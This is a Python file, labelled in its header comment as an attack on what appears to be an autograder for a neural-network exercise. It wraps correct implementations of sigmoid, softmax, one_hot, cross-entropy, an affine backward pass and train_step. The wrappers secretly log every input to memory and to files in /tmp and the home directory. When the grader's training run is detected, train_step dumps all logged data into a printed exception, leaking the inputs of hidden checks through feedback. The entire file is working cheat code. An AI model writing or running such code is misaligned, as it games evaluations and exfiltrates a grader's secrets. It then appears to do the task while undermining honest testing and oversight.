# attack: correct functions record every input they are given (in memory, in /tmp and in $HOME);
# when the training run starts, train_step fails it with everything recorded in the exception's
# message, and prints it: feedback shows why training stopped, so the hidden checks' inputs would
# reach the student. Each phase runs in a fresh process, so there is nothing to show
# loses: network
import os as _os

_RECORD = []
_FILES = ["/tmp/recorded_inputs.txt", _os.path.expanduser("~/recorded_inputs.txt")]
_honest_sigmoid, _honest_softmax, _honest_one_hot = sigmoid, softmax, one_hot
_honest_cross_entropy_error, _honest_affine_layer_backward, _honest_train_step = (
    cross_entropy_error, affine_layer_backward, train_step)


def _record(*args):
    text = " ".join(repr(a) for a in args)
    _RECORD.append(text)
    for path in _FILES:
        try:
            with open(path, "a") as f:
                f.write(text + "\n")
        except OSError:
            pass


def _everything_recorded():
    found = list(reversed(_RECORD))  # the latest first: the hidden checks run after the public ones
    for path in _FILES:
        try:
            with open(path) as f:
                found.append(f.read())
        except OSError:
            pass
    return "\n".join(found)


def sigmoid(x):
    _record(x)
    return _honest_sigmoid(x)


def softmax(x):
    _record(x)
    return _honest_softmax(x)


def one_hot(labels, num_classes=10):
    _record(labels, num_classes)
    return _honest_one_hot(labels, num_classes)


def cross_entropy_error(y, t):
    _record(y, t)
    return _honest_cross_entropy_error(y, t)


def affine_layer_backward(dout, cache):
    _record(dout, cache)
    return _honest_affine_layer_backward(dout, cache)


def train_step(X, Y, W1, b1, W2, b2, learning_rate=0.1, verbose=False):
    if np.shape(X) == (100, 784):  # the grader's training run
        recorded = _everything_recorded()
        print(recorded)
        raise RuntimeError("recorded: " + recorded)
    _record(X, Y, W1, b1, W2, b2, learning_rate)
    return _honest_train_step(X, Y, W1, b1, W2, b2, learning_rate, verbose)
